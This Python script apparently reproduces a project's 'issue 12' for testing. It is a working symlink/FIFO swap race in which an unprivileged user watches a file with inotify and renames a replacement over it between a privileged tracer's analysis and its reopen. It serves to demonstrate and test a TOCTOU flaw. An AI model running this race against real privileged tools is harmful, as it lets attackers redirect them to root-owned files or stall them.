# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""The swap attack of issue 12, as an unprivileged user runs it.

swap.py WATCHED REPLACEMENT [close|open]: wait (inotify) until a reader
closes WATCHED, which a tracer does after analysing it (or, with "open",
until it opens it: the swap then comes during the analysis), then rename
REPLACEMENT (a symlink to a root file, or a FIFO) over it, before the
tracer opens the name again to attach. Prints "ready", then "swapped" or
"timeout".
"""
import ctypes
import os
import select
import sys

IN_CLOSE_NOWRITE = 0x10
IN_OPEN = 0x20

watched, replacement = sys.argv[1], sys.argv[2]
mask = IN_OPEN if sys.argv[3:] == ["open"] else IN_CLOSE_NOWRITE
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(os.O_CLOEXEC)
if fd < 0 or libc.inotify_add_watch(fd, watched.encode(), mask) < 0:
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
print("ready", flush=True)
if not select.select([fd], [], [], 30)[0]:
    print("timeout", flush=True)
    sys.exit(1)
os.rename(replacement, watched)
print("swapped", flush=True)
